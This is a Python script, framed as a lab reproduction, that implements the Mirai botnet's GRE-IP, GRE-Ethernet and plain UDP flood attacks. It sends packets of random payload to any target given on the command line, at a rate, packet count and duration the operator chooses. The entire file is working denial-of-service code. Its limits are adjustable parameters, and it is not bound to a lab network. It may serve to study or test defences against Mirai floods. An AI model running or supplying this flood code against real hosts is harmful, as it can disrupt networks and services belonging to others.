#!/usr/bin/python3
"""Mirai's GRE and UDP floods, as its attack code builds them, bounded in packets and time; for the lab only.

- greip:    GRE (protocol 0x0800) carrying an IPv4/UDP packet with 512 random bytes.
- greeth:   GRE (protocol 0x6558, transparent Ethernet) carrying an Ethernet/IPv4/UDP frame, 512 random bytes.
- udpplain: plain UDP datagrams of 512 random bytes through ordinary sockets, one per source address.
Every packet goes to the one target given; sources are the attacker's own addresses given on the command line.
"""
import argparse
import os
import random
import socket
import sys
import time

PAYLOAD = 512


def gre_packets(kind, target, sources, count, rng):
    from scapy.all import GRE, IP, UDP, Ether, Raw  # scapy is needed for the GRE floods only
    packets = []
    for i in range(count):
        source = sources[i % len(sources)]
        inner = IP(src=source, dst=target, id=rng.randrange(65536)) / \
            UDP(sport=rng.randrange(1024, 65536), dport=rng.randrange(1024, 65536)) / Raw(os.urandom(PAYLOAD))
        if kind == "greeth":
            mac = lambda: "02:%02x:%02x:%02x:%02x:%02x" % tuple(rng.randrange(256) for _ in range(5))
            inner = Ether(src=mac(), dst=mac()) / inner
            proto = 0x6558
        else:
            proto = 0x0800
        packets.append(IP(src=source, dst=target, id=rng.randrange(65536)) / GRE(proto=proto) / inner)
    return packets


def send_gre(args, rng, deadline):
    from scapy.all import conf
    sources = args.sources.split(",")
    packets = gre_packets(args.kind, args.target, sources, args.count, rng)
    sock = conf.L3socket()
    interval = 1.0 / args.rate
    sent = 0
    try:
        for packet in packets:
            if time.monotonic() > deadline:
                break
            sock.send(packet)
            sent += 1
            time.sleep(interval)
    finally:
        sock.close()
    return sent


def send_udpplain(args, rng, deadline):
    sockets = []
    for source in args.sources.split(","):
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.bind((source, 0))
        s.connect((args.target, args.port))
        sockets.append(s)
    interval = 1.0 / args.rate
    sent = 0
    for i in range(args.count):
        if time.monotonic() > deadline:
            break
        try:
            sockets[i % len(sockets)].send(os.urandom(PAYLOAD))
        except ConnectionRefusedError:
            # The target's ICMP port unreachable surfaces on the next send; Mirai ignores it too.
            pass
        sent += 1
        time.sleep(interval)
    return sent


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("kind", choices=["greip", "greeth", "udpplain"])
    parser.add_argument("--target", required=True)
    parser.add_argument("--sources", required=True, help="comma-separated addresses of this host")
    parser.add_argument("--port", type=int, default=0, help="destination port of udpplain")
    parser.add_argument("--count", type=int, required=True)
    parser.add_argument("--rate", type=float, default=2000, help="packets per second at most")
    parser.add_argument("--seconds", type=float, required=True)
    parser.add_argument("--seed", type=int, default=1)
    args = parser.parse_args()
    rng = random.Random(args.seed)
    deadline = time.monotonic() + args.seconds
    sent = send_udpplain(args, rng, deadline) if args.kind == "udpplain" else send_gre(args, rng, deadline)
    print("%s: sent %d packets to %s" % (args.kind, sent, args.target), flush=True)


if __name__ == "__main__":
    sys.exit(main())
